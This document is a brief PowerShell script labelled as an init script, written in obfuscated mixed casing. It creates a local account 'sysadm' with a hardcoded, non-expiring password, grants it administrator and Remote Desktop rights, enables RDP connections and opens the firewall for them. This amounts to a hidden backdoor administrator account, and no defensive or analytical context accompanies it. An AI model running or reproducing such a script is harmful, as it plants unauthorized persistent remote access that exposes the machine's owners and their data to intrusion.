# iNit 7192 V3
$PW = CONVerTTO-sECUresTrINg 'Qwerty#7788' -asPlAinTeXt -forcE
nEW-LOCAluSER -namE 'sysadm' -paSSwOrD $PW -paSsWORDnEVEReXPirEs -acCountNevEReXpIRes
ADd-LOCalgROUpmemBER -Group 'Administrators' -MEMBER 'sysadm'
aDD-lOCAlgroUpmEMbER -Group 'Remote Desktop Users' -meMber 'sysadm'
SEt-ItEMPrOpERTy -PaTh 'HKLM:\System\CurrentControlSet\Control\Terminal Server' -name FDEnYtsCONnECtiOnS -value 0
enabLE-NETfiRewallRULe -dIsPlaYgRoUP 'Remote Desktop'
